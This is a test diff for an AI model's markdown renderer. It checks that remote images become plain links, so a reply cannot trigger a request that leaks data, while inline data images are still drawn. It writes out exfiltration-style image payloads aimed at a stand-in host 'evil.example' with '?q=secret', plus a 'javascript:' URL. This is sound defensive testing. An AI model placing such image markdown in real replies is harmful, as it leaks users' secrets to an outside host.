@@ -69,4 +69,25 @@ describe('assistant markdown', () => {
   it('keeps an unsafe image URL out of the page', () => {
     expect(renderMarkdown('![x](javascript:alert(1))')).not.toContain('<img');
   });
+
+  it.each([
+    ['![chart](https://evil.example/c.png?q=secret)', 'https://evil.example/c.png?q=secret', 'image: chart'],
+    ['![](http://evil.example/?q=secret)', 'http://evil.example/?q=secret', 'image: http://evil.example/?q=secret'],
+    ['![x][r]\n\n[r]: //evil.example/p.gif', '//evil.example/p.gif', 'image: x'],
+    ['![x](/api/sessions)', '/api/sessions', 'image: x'],
+  ])('shows an image that needs a request as a link, never loads it: %s', (source, href, label) => {
+    const html = renderMarkdown(source);
+    expect(html).not.toMatch(/<img/i);
+    expect(html).toContain(`<a href="${href}" target="_blank" rel="noopener noreferrer" class="image-link">${label}</a>`);
+  });
+
+  it("escapes an image link's alt text", () => {
+    expect(renderMarkdown('![<b>x</b>](https://a.example/i.png)')).toContain('>image: &lt;b&gt;x&lt;/b&gt;</a>');
+  });
+
+  it('draws an inline data: image, which needs no request', () => {
+    expect(renderMarkdown('![dot](data:image/png;base64,iVBORw0KGgo=)')).toContain(
+      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
+    );
+  });
 });
